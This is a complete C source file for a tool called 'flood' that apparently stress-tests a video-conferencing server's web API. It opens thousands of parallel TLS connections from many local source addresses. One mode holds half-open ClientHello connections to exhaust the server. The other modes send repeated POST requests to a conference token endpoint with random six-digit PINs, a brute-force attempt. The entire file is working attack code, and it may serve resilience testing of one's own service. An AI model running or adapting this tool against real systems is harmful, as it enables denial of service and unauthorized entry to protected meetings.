/* Many strangers at once, cheaply: attacks on the web face.
 *
 *	flood MODE HOST PORT NET COUNT PARALLEL PER_SECOND SECONDS ALIAS
 *
 * MODE  hello  a connection, a ClientHello, and not a byte more
 *	 new    a connection, a whole handshake, one join with a wrong PIN
 *	 kept   the same join again and again on the same connections
 * NET	 the first two parts of the IPv4 addresses it comes from ("10.77"), of
 *	 which it uses COUNT, or one whole address; at most PARALLEL connections
 *	 live at once.
 * PER_SECOND  how many attempts it begins at most.
 *
 * Ends after SECONDS or when standard input closes; prints what it offered
 * and what became of it as one JSON object.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { PARALLEL_MAX = 20000, EVENTS = 256, HELLO_MAX = 1024 };
enum mode { HELLO, NEW, KEPT };

struct line {
	int fd;			/* -1: not in use */
	SSL *ssl;
	unsigned source;
	double due;		/* kept: when the next join goes out */
	enum { CONNECTING, SHAKING, ASKING, RESTING, HANGING } state;
};

struct flood {
	enum mode mode;
	struct sockaddr_in to;
	char net[16], alias[64], host[64];
	unsigned sources, parallel, next_source;
	double per_second, now, end;
	int epoll;
	SSL_CTX *ctx;
	unsigned char hello[HELLO_MAX];
	size_t hello_n;
	struct line *lines;
	unsigned long offered, connected, answered, failed, reset;
	unsigned long shaken, asked, status[6];
};

static double mono(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* What OpenSSL would say first. */
static int make_hello(struct flood *f)
{
	SSL *ssl = SSL_new(f->ctx);
	BIO *in = BIO_new(BIO_s_mem()), *out = BIO_new(BIO_s_mem());
	int n = -1;

	if (ssl && in && out) {
		SSL_set_bio(ssl, in, out);
		SSL_set_connect_state(ssl);
		(void)SSL_do_handshake(ssl);
		n = BIO_read(out, f->hello, HELLO_MAX);
		SSL_free(ssl);
	}
	f->hello_n = n > 0 ? (size_t)n : 0;
	return n > 0 ? 0 : -1;
}

static void hang_up(struct line *l)
{
	struct linger at_once = {.l_onoff = 1};

	if (l->ssl)
		SSL_free(l->ssl);
	(void)setsockopt(l->fd, SOL_SOCKET, SO_LINGER, &at_once,
			 sizeof(at_once));
	(void)close(l->fd);
	l->ssl = NULL;
	l->fd = -1;
}

static void dial(struct flood *f, struct line *l)
{
	struct sockaddr_in from = {.sin_family = AF_INET};
	struct epoll_event e = {.events = EPOLLOUT, .data.ptr = l};
	const unsigned i = f->next_source++ % f->sources;
	char text[32];
	int on = 1;

	(void)snprintf(text, sizeof(text), "%s.%u.%u", f->net, i / 250,
		       i % 250 + 1);
	if (inet_pton(AF_INET, f->net, &from.sin_addr) != 1)
		(void)inet_pton(AF_INET, text, &from.sin_addr);
	f->offered += f->mode != KEPT;
	l->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (l->fd < 0)
		return;
	(void)setsockopt(l->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on,
			 sizeof(on));
	(void)setsockopt(l->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
	l->state = CONNECTING;
	if (bind(l->fd, (struct sockaddr *)&from, sizeof(from)) < 0 ||
	    (connect(l->fd, (struct sockaddr *)&f->to, sizeof(f->to)) < 0 &&
	     errno != EINPROGRESS) ||
	    epoll_ctl(f->epoll, EPOLL_CTL_ADD, l->fd, &e) < 0) {
		f->failed++;
		hang_up(l);
	}
}

static void wait_for(struct flood *f, struct line *l, uint32_t events)
{
	struct epoll_event e = {.events = events, .data.ptr = l};

	(void)epoll_ctl(f->epoll, EPOLL_CTL_MOD, l->fd, &e);
}

static void lost(struct flood *f, struct line *l)
{
	f->reset++;
	hang_up(l);
}

/* True: done. A connection that died is gone then. */
static int shake(struct flood *f, struct line *l)
{
	const int r = SSL_connect(l->ssl);
	const int e = SSL_get_error(l->ssl, r);

	if (r == 1) {
		f->shaken++;
		return 1;
	}
	if (e == SSL_ERROR_WANT_READ)
		wait_for(f, l, EPOLLIN);
	else if (e == SSL_ERROR_WANT_WRITE)
		wait_for(f, l, EPOLLOUT);
	else
		lost(f, l);
	return 0;
}

static void ask(struct flood *f, struct line *l)
{
	static const char body[] = "{\"display_name\":\"Nobody\"}";
	char text[600];
	const int n = snprintf(text, sizeof(text),
		"POST /api/client/v2/conferences/%s/request_token HTTP/1.1\r\n"
		"Host: %s\r\nContent-Type: application/json\r\npin: %06d\r\n"
		"Content-Length: %zu\r\n\r\n%s", f->alias, f->host,
		rand() % 1000000, sizeof(body) - 1, body);

	f->offered += f->mode == KEPT;
	f->asked++;
	if (SSL_write(l->ssl, text, n) != n) {
		lost(f, l);
		return;
	}
	l->state = ASKING;
	wait_for(f, l, EPOLLIN);
}

static void hear(struct flood *f, struct line *l)
{
	char text[8192];
	const int n = SSL_read(l->ssl, text, sizeof(text) - 1);
	unsigned status;

	if (n <= 0) {
		if (SSL_get_error(l->ssl, n) != SSL_ERROR_WANT_READ)
			lost(f, l);
		return;
	}
	text[n] = 0;
	if (sscanf(text, "HTTP/1.1 %3u", &status) == 1 && status < 600) {
		f->answered++;
		f->status[status / 100]++;
	}
	if (f->mode == NEW) {
		hang_up(l);
		return;
	}
	l->state = RESTING;
	l->due = f->now + f->parallel / f->per_second;
}

static void connected(struct flood *f, struct line *l)
{
	int bad = 0;
	socklen_t n = sizeof(bad);

	(void)getsockopt(l->fd, SOL_SOCKET, SO_ERROR, &bad, &n);
	if (bad) {
		f->failed++;
		hang_up(l);
		return;
	}
	f->connected++;
	if (f->mode == HELLO) {
		(void)!write(l->fd, f->hello, f->hello_n);
		l->state = HANGING;
		wait_for(f, l, EPOLLIN);
		return;
	}
	l->ssl = SSL_new(f->ctx);
	(void)SSL_set_fd(l->ssl, l->fd);
	l->state = SHAKING;
	if (shake(f, l))
		ask(f, l);
}

/* The ServerHello costs us nothing: it is thrown away, and the line stays
 * open until the server has had enough of it. */
static void hang(struct flood *f, struct line *l)
{
	char text[8192];
	const ssize_t n = read(l->fd, text, sizeof(text));

	if (n > 0)
		f->answered++;
	else if (n == 0 || errno != EAGAIN)
		lost(f, l);
}

static void turn(struct flood *f, struct line *l)
{
	switch (l->state) {
	case CONNECTING:
		connected(f, l);
		break;
	case SHAKING:
		if (shake(f, l))
			ask(f, l);
		break;
	case ASKING:
	case RESTING:
		hear(f, l);
		break;
	case HANGING:
		hang(f, l);
		break;
	}
}

static int is_over(struct flood *f)
{
	struct pollfd in = {.fd = 0, .events = POLLIN};
	char c;

	return f->now >= f->end ||
	       (poll(&in, 1, 0) > 0 && read(0, &c, 1) <= 0);
}

/* Free lines dial; rested ones ask again. When all are taken the oldest of
 * those that only hang are given up for new ones. */
static void begin(struct flood *f, double *budget, unsigned *at)
{
	for (unsigned i = 0; i < f->parallel && *budget >= 1; i++) {
		struct line *l = &f->lines[(*at)++ % f->parallel];

		if (l->fd >= 0 && l->state == HANGING)
			hang_up(l);
		if (l->fd < 0) {
			dial(f, l);
			*budget -= 1;
		} else if (l->state == RESTING && l->due <= f->now) {
			ask(f, l);
			*budget -= 1;
		}
	}
}

static void run(struct flood *f)
{
	struct epoll_event got[EVENTS];
	double budget = 0, last = mono();
	unsigned at = 0;

	f->now = last;
	while (!is_over(f)) {
		budget += (f->now - last) * f->per_second;
		if (budget > f->per_second / 10)
			budget = f->per_second / 10;
		last = f->now;
		begin(f, &budget, &at);
		const int n = epoll_wait(f->epoll, got, EVENTS, 2);

		f->now = mono();
		for (int i = 0; i < n; i++)
			turn(f, got[i].data.ptr);
	}
}

static int prepare(struct flood *f, char **v)
{
	f->mode = strcmp(v[1], "hello") == 0 ? HELLO :
		  strcmp(v[1], "kept") == 0 ? KEPT : NEW;
	f->to = (struct sockaddr_in){.sin_family = AF_INET,
				     .sin_port = htons((uint16_t)strtoul(
						       v[3], NULL, 10))};
	(void)snprintf(f->host, sizeof(f->host), "%s:%s", v[2], v[3]);
	(void)snprintf(f->net, sizeof(f->net), "%s", v[4]);
	(void)snprintf(f->alias, sizeof(f->alias), "%s", v[9]);
	f->sources = (unsigned)strtoul(v[5], NULL, 10);
	f->parallel = (unsigned)strtoul(v[6], NULL, 10);
	f->per_second = strtod(v[7], NULL);
	f->end = mono() + strtod(v[8], NULL);
	f->epoll = epoll_create1(0);
	f->ctx = SSL_CTX_new(TLS_client_method());
	f->lines = calloc(PARALLEL_MAX, sizeof(*f->lines));
	if (inet_pton(AF_INET, v[2], &f->to.sin_addr) != 1 || !f->sources ||
	    !f->parallel || f->parallel > PARALLEL_MAX ||
	    f->per_second <= 0 || !f->ctx || !f->lines || f->epoll < 0)
		return -1;
	for (unsigned i = 0; i < PARALLEL_MAX; i++)
		f->lines[i].fd = -1;
	(void)SSL_CTX_set1_groups_list(f->ctx, "P-256");
	return make_hello(f);
}

int main(int n, char **v)
{
	static struct flood f;

	if (n != 10 || prepare(&f, v) < 0) {
		(void)fprintf(stderr, "flood MODE HOST PORT NET COUNT PARALLEL "
			      "PER_SECOND SECONDS ALIAS\n");
		return 2;
	}
	(void)signal(SIGPIPE, SIG_IGN);
	const double began = mono();

	run(&f);
	(void)printf("{\"seconds\":%.1f,\"offered\":%lu,\"connected\":%lu,"
		     "\"failed\":%lu,\"reset\":%lu,\"shaken\":%lu,"
		     "\"asked\":%lu,\"answered\":%lu,\"ok\":%lu,"
		     "\"refused\":%lu,\"busy\":%lu}\n", f.now - began,
		     f.offered, f.connected, f.failed, f.reset, f.shaken,
		     f.asked, f.answered, f.status[2], f.status[4],
		     f.status[5]);
	return 0;
}
